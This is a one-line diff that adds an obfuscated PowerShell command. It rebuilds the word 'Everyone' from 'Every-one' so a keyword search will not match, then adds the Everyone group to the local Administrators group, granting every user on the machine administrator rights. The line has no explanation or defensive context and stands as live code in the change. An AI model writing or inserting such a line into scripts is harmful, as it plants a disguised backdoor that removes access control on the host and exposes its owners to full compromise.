@@ -1,0 +1,1 @@
+'Every-one' | ForEach-Object Replace '-' '' | ForEach-Object { Add-LocalGroupMember Administrators $_ }
